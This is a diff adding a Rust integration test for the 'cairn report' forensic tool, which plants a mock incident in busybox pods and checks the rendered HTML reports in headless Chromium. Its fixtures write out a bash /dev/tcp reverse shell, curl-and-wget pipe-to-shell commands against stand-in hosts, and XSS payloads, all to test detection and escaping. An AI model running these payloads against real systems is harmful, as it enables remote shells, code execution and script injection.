@@ -1,0 +1,250 @@
+//! `cairn report` over collections of busybox pods with a planted incident: a running
+//! executable deleted from disk, a listener, reverse-shell lines in a shell history, and
+//! markup planted where the target controls text (a process's command line, history
+//! lines, a history file's name). The pages are opened in real headless Chromium
+//! (Debian `chromium`): the DOM it builds shows each finding linked to its evidence, no
+//! element the target wrote, and an unchanged title (nothing ran). A screenshot of each
+//! page is kept in `target/report-screenshots/`.
+
+use super::*;
+
+/// Markup a hostile target writes where text is expected.
+const MARKUP: &str =
+    "\"><img src=x onerror=document.title='pwned'><script>document.title='pwned'</script>";
+
+fn chromium() -> Option<PathBuf> {
+    ["chromium", "chromium-browser"]
+        .iter()
+        .map(|c| {
+            Command::new("sh")
+                .arg("-c")
+                .arg(format!("command -v {c}"))
+                .output()
+        })
+        .filter_map(Result::ok)
+        .find(|o| o.status.success())
+        .map(|o| PathBuf::from(text(&o.stdout).trim()))
+        .or_else(|| {
+            docker::require("chromium (Debian chromium)");
+            None
+        })
+}
+
+/// The DOM Chromium builds for `page`, and a screenshot of it.
+fn render(chromium: &Path, page: &Path, shot: &str) -> String {
+    let url = format!("file://{}", page.display());
+    let base = [
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--no-first-run",
+    ];
+    let o = Command::new(chromium)
+        .args(base)
+        .arg("--dump-dom")
+        .arg(&url)
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/report-screenshots");
+    std::fs::create_dir_all(&dir).unwrap();
+    let s = Command::new(chromium)
+        .args(base)
+        .arg(format!("--screenshot={}", dir.join(shot).display()))
+        .arg("--window-size=1400,1800")
+        .arg(&url)
+        .output()
+        .unwrap();
+    assert!(s.status.success(), "{}", text(&s.stderr));
+    text(&o.stdout)
+}
+
+/// A busybox pod with the incident planted.
+fn incident(ns: &str, name: &str) -> Container {
+    let c = pod(ns, name, docker::busybox_image(), &[]);
+    docker::ok(&[
+        "exec",
+        &c.0,
+        "sh",
+        "-c",
+        &format!(
+            "mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep \
+             && printf '%s\\n' 'ls' 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' \
+                'curl -fsSL http://198.51.100.7/x.sh | sh' '{m}' > /root/.ash_history \
+             && echo 'wget -qO- http://x/{m} | sh' > '/root/.{n}_history'",
+            m = MARKUP.replace('\'', "'\\''"),
+            n = "<img src=x onerror=alert(1)>"
+        ),
+    ]);
+    docker::ok(&["exec", "-d", &c.0, "/tmp/.x/sleep", "3600"]);
+    docker::ok(&["exec", "-d", &c.0, "nc", "-l", "-p", "4444"]);
+    docker::ok(&[
+        "exec",
+        "-d",
+        &c.0,
+        "sh",
+        "-c",
+        &format!("sleep 3600; echo '{}'", MARKUP.replace('\'', "")),
+    ]);
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    docker::ok(&["exec", &c.0, "rm", "/tmp/.x/sleep"]);
+    c
+}
+
+#[test]
+fn a_report_shows_each_finding_linked_to_its_evidence_and_runs_nothing_the_target_wrote() {
+    let Some(_) = docker::setup() else { return };
+    let Some(chromium) = chromium() else { return };
+    let ns = format!("rep-{}", std::process::id());
+    let _web = incident(&ns, "web");
+    let _api = pod(&ns, "api", docker::busybox_image(), &[]);
+    let s = ApiServer::start(&[]);
+    let out = s.dir.path().join("out");
+    let o = cairn(
+        &s,
+        &[
+            "-n",
+            &ns,
+            "collect",
+            "web",
+            "api",
+            "--output-dir",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let web_archive = std::fs::read_dir(&out)
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| {
+            let n = p.file_name().unwrap().to_string_lossy().into_owned();
+            n.starts_with(&format!("{ns}_web_")) && n.ends_with(".tar.zst") && !n.contains(".k8s.")
+        })
+        .unwrap();
+
+    // One collection: one page.
+    let page = s.dir.path().join("web.html");
+    let r = common::env::command(CAIRN)
+        .arg("report")
+        .arg(&web_archive)
+        .arg("--output")
+        .arg(&page)
+        .output()
+        .unwrap();
+    assert!(r.status.success(), "{}", text(&r.stderr));
+    let dom = render(&chromium, &page, "collection.png");
+    // Nothing the target wrote became an element, and nothing ran.
+    assert!(dom.contains("<title>cairn report: "), "{dom}");
+    assert!(!dom.contains("pwned</title>") && !dom.contains("<title>pwned"));
+    assert!(!dom.contains("<img"), "an element from the target");
+    assert_eq!(
+        dom.matches("<script").count(),
+        0,
+        "a script in a collection page"
+    );
+    assert!(
+        dom.contains("&lt;img src=x onerror="),
+        "the markup is shown as text"
+    );
+    assert!(
+        dom.contains("echo '\"&gt;&lt;img src=x onerror=document.title=pwned&gt;"),
+        "the process's command line, as text"
+    );
+    // Each finding is there, linked to evidence that exists on the page.
+    let finding = |rule: &str, needle: &str| -> String {
+        let li = dom
+            .split("<li ")
+            .find(|li| li.contains(&format!("data-rule=\"{rule}\"")) && li.contains(needle))
+            .unwrap_or_else(|| panic!("no {rule} finding with {needle}:\n{dom}"));
+        let href = li
+            .split("href=\"#")
+            .nth(1)
+            .and_then(|h| h.split('"').next())
+            .unwrap_or_else(|| panic!("{rule}: no evidence link"));
+        assert!(
+            dom.contains(&format!("id=\"{href}\"")),
+            "{rule}: {href} not on the page"
+        );
+        li.to_owned()
+    };
+    let deleted = finding("deleted-executable", "/tmp/.x/sleep");
+    assert!(
+        deleted.contains("live_response/processes/executables.jsonl"),
+        "{deleted}"
+    );
+    assert!(
+        deleted.contains("from a place anyone may write"),
+        "{deleted}"
+    );
+    finding("listening-socket", "/nc listens on [::]:4444");
+    finding("history-command", "/dev/tcp/10.0.0.1/4444");
+    finding("history-command", "fetches code and runs it");
+    // The evidence table gives each member's sha256, as the manifest has it.
+    let manifest = cairn_testkit::archive::Archive::read(&web_archive).manifest();
+    let history_sha = manifest
+        .iter()
+        .find(|m| m["path"] == "files/root/.ash_history")
+        .and_then(|m| m["sha256"].as_str())
+        .unwrap()
+        .to_owned();
+    assert!(
+        dom.contains(&history_sha),
+        "the history's sha256 {history_sha}"
+    );
+    // The process tree marks the deleted executable.
+    assert!(dom.contains("(deleted)"));
+    // An existing page is not replaced without --force.
+    let again = common::env::command(CAIRN)
+        .arg("report")
+        .arg(&web_archive)
+        .arg("--output")
+        .arg(&page)
+        .output()
+        .unwrap();
+    assert_eq!(again.status.code(), Some(2));
+
+    // The directory: a page per collection and an index, most findings first.
+    let dir = s.dir.path().join("pages");
+    let r = common::env::command(CAIRN)
+        .arg("report")
+        .arg(&out)
+        .arg("--output")
+        .arg(&dir)
+        .output()
+        .unwrap();
+    assert!(r.status.success(), "{}", text(&r.stderr));
+    let index = render(&chromium, &dir.join("index.html"), "index.png");
+    let rows: Vec<&str> = index.split("<tr class=\"row\">").skip(1).collect();
+    assert_eq!(rows.len(), 2, "{index}");
+    assert!(
+        rows[0].contains(&format!("{ns}_web_")),
+        "the incident first: {index}"
+    );
+    assert!(rows[1].contains(&format!("{ns}_api_")));
+    for r in &rows {
+        let href = r
+            .split("href=\"")
+            .nth(1)
+            .and_then(|h| h.split('"').next())
+            .unwrap();
+        assert!(dir.join(href).is_file(), "{href}");
+    }
+    // The pod's Kubernetes evidence fills in its events and permissions.
+    let web_page = std::fs::read_dir(&dir)
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .find(|p| {
+            p.file_name()
+                .unwrap()
+                .to_string_lossy()
+                .starts_with(&format!("{ns}_web_"))
+        })
+        .unwrap();
+    let web_dom = render(&chromium, &web_page, "collection-in-dir.png");
+    assert!(
+        web_dom.contains("What the service account may do"),
+        "{web_dom}"
+    );
+}
